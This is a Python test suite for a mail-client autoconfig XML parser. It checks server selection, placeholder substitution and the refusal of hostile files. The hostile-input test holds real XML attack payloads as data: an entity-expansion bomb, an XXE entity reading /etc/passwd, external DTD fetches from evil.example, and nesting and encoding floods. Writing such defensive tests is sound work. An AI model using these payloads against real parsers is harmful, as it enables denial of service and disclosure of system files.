"""Thunderbird's file is read for what we can use, and takes nothing from us when it is hostile."""

import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.mail.discovery import clientconfig
from services.mail.discovery.address import Address
from services.mail.discovery.candidates import Candidate, Server
from services.mail.discovery.clientconfig import Unusable, candidate

ANNA = Address(local="anna", domain="example.org")


def server(
    kind: str = "imap", *, port: object = 993, tls: str = "SSL", user: str = "%EMAILADDRESS%", **more: str
) -> str:
    tag = "outgoingServer" if kind == "smtp" else "incomingServer"
    ways = "".join(f"<authentication>{way}</authentication>" for way in more.get("auth", "password-cleartext").split())
    host = more.get("host", f"{kind}.%EMAILDOMAIN%")
    fields = f"<hostname>{host}</hostname><port>{port}</port><socketType>{tls}</socketType><username>{user}</username>"
    return f'<{tag} type="{kind}">{fields}{ways}</{tag}>'


def file(*servers: str, name: str = "Example Mail") -> bytes:
    inside = f"<displayName>{name}</displayName>{''.join(servers)}"
    return f'<?xml version="1.0"?>\n<clientConfig version="1.1"><emailProvider id="x">{inside}</emailProvider></clientConfig>'.encode()


def read(*servers: str) -> Candidate:
    return candidate("autoconfig", file(*servers), ANNA)


def at(host: str, port: int, tls: str, username: str = "anna@example.org") -> Server:
    return Server(host=host, port=port, tls=tls, username=username)  # type: ignore[arg-type] # one of the two


def test_a_file_gives_both_servers_with_the_address_put_in() -> None:
    found = read(server("pop3"), server(user="%EMAILLOCALPART%"), server("smtp", port=465))
    assert found == Candidate(
        source="autoconfig",
        origin="Example Mail",
        imap=at("imap.example.org", 993, "ssl", "anna"),
        smtp=at("smtp.example.org", 465, "ssl"),
    )


@pytest.mark.parametrize(
    ("servers", "best"),
    [
        ((server(port=143, tls="STARTTLS"), server()), at("imap.example.org", 993, "ssl")),
        ((server(port=143, tls="plain"), server(port=143, tls="STARTTLS")), at("imap.example.org", 143, "starttls")),
        ((server(host="a.example.org"), server(host="b.example.org")), at("a.example.org", 993, "ssl")),
        ((server(host="10.0.0.1"), server(host="b.example.org")), at("b.example.org", 993, "ssl")),
        ((server(auth="OAuth2"), server(host="b.example.org")), at("b.example.org", 993, "ssl")),
        ((server(user="anna %OTHER% 100%"),), at("imap.example.org", 993, "ssl", "anna %OTHER% 100%")),
        ((server(user="%EMAILLOCALPART%-%EMAILDOMAIN%"),), at("imap.example.org", 993, "ssl", "anna-example.org")),
    ],
)
def test_the_best_server_that_can_be_used_is_taken(servers: tuple[str, ...], best: Server) -> None:
    assert read(*servers).imap == best


def test_what_is_put_in_is_not_looked_at_again() -> None:
    odd = Address(local="%EMAILDOMAIN%", domain="example.org")
    assert candidate("ispdb", file(server(user="%EMAILLOCALPART%")), odd).imap.username == "%EMAILDOMAIN%"


def test_a_providers_own_door_is_named_where_we_know_it() -> None:
    google = read(server(host="imap.gmail.com", auth="OAuth2 password-cleartext"))
    assert google.auth == ("oauth:google", "password")
    assert read(server(host="outlook.office365.com", auth="OAuth2")).auth == ("oauth:microsoft",)


@pytest.mark.parametrize(
    "servers",
    [
        (),
        (server("smtp"),),
        (server("pop3"),),
        (server(tls="plain"),),
        (server(port=0),),
        (server(port=65536),),
        (server(port="99999999999999999999"),),
        (server(port="x"),),
        (server(host=""),),
        (server(host="imap.example.org&#10;x"),),
        (server(user="a&#10;b"),),
        (server(user="x" * 400),),
        (server(auth="OAuth2"),),
        (server(auth="client-IP-address"),),
    ],
)
def test_a_file_without_a_usable_server_is_unusable(servers: tuple[str, ...]) -> None:
    with pytest.raises(Unusable):
        read(*servers)


BOMB = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))


@pytest.mark.parametrize(
    "text",
    [
        b'<!DOCTYPE x [<!ENTITY a0 "ha">' + BOMB + b"]><x>&a11;</x>",
        b'<!DOCTYPE x [<!ENTITY a "' + b"ha" * 50_000 + b'">]><x>' + b"&a;" * 30_000 + b"</x>",
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><clientConfig>&f;</clientConfig>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]><x/>',
        b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>',
        b"<!DOCTYPE x><x/>",
        b"<x>" * 80_000,
        b"<x/>" * 60_000,
        b"<r>" + b"<x/>" * 60_000 + b"</r>",
        b"<x " + b" ".join(b'a%d="1"' % n for n in range(20_000)) + b"/>",
        b"",
        b"\0" * 1000,
        b"<html><body>Not here<br></body></html>",
        b'<?xml version="1.0" encoding="utf-7"?><x/>',
        "<x/>".encode("utf-32"),
        b'<?xml version="1.0" encoding="\xff"?><x/>',
    ],
)
def test_a_hostile_file_is_refused_at_once(text: bytes) -> None:
    began = time.process_time()
    with pytest.raises(Unusable):
        candidate("autoconfig", text, ANNA)
    assert time.process_time() - began < 1


def test_a_providers_name_is_shown_without_tricks() -> None:
    found = candidate("autoconfig", file(server(), name="Exa\u202emple" + "x" * 200), ANNA)
    assert found.origin == "Example" + "x" * 73
    assert candidate("autoconfig", file(server(), name=""), ANNA).origin == "example.org"


def test_as_many_elements_as_a_file_needs_are_read() -> None:
    many = [server(host=f"h{n}.example.org") for n in range(clientconfig.ELEMENTS // 6 - 2)]
    assert read(*many).imap.host == "h0.example.org"


WHOLE = file(server(), server("smtp", port=465))


@given(at=st.integers(0, len(WHOLE)), cut=st.integers(0, 40), put=st.binary(max_size=40))
def test_whatever_the_bytes_there_is_a_candidate_or_a_reason(at: int, cut: int, put: bytes) -> None:
    with suppress(Unusable):
        assert candidate("autoconfig", WHOLE[:at] + put + WHOLE[at + cut :], ANNA).imap.host
